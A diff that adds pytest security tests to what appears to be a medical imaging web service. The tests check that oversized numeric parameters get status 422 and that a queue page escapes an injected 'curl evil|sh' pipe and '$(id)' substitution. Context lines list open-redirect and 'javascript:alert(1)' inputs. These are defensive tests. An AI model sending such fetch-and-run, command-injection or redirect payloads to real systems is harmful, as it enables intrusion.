@@ -216,6 +216,31 @@ def test_a_machine_with_many_addresses_guesses_no_more_often_than_one(site):
 
 
 @pytest.mark.parametrize(
+    "address",
+    [
+        *("/studies?since=2026-01-01&offset=99999999999999", "/studies?since=2026-01-01&offset=1500"),
+        *("/audit?until=2026-01-01&offset=1500", "/queue?since=2026-01-01&offset=1500"),
+        *(
+            "/thumbnails/{big}",
+            "/studies/1.2?image={big}",
+            "/images/{big}/layers",
+            "/images/{big}/state",
+            "/images/{big}/source.dcm",
+        ),
+        *("/results/{big}.dcm", "/results/{big}/report", "/jobs/{big}", "/audit?before={big}", "/queue?before={big}"),
+    ],
+)
+def test_numbers_and_times_that_no_database_counts_are_the_asker_s_mistake(site, address):
+    assert site.signed_in("admin").get(address.format(big="9" * 30)).status_code == 422
+
+
+def test_the_command_that_the_queue_shows_holds_nothing_of_another_s_making(site):
+    page = site.signed_in("operator").get("/queue?state=held&x;curl evil|sh =1&study=$(id)").text
+    assert "curl evil" not in page
+    assert "--study &#39;$(id)&#39;" in page
+
+
+@pytest.mark.parametrize(
     "given",
     ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)", "", "\\/x", "/\n/x", "/ x", "x"],
 )
